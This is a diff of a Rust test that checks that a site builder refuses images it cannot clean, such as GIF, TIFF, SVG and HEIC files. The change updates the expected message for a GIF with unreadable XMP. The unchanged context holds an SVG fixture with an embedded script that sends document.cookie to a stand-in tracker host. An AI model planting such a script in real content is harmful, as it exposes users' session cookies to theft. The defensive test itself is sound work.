@@ -152,7 +152,8 @@ fn pictures_and_videos_that_cannot_be_cleaned_are_refused() {
     let (site, before) = built_site();
     let svg = br#"<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10"><text x="0" y="5">Aisha Khan</text><script>fetch('https://tracker.example/?c='+document.cookie)</script></svg>"#;
     let cases: Vec<(&str, Vec<u8>, &str)> = vec![
-        ("finish-line.gif", gif_with_xmp(), "PNG or JPEG"),
+        // A GIF whose XMP cannot be read cannot be checked for people tags.
+        ("finish-line.gif", gif_with_xmp(), "GIF file is damaged"),
         ("scan.tiff", b"II*\x00\x08\x00\x00\x00\x00\x00".to_vec(), "Export it as JPEG"),
         ("banner.svg", svg.to_vec(), "Export the drawing as PNG"),
         ("relay.heic", ftyp(b"heic"), "Export it as JPEG"),
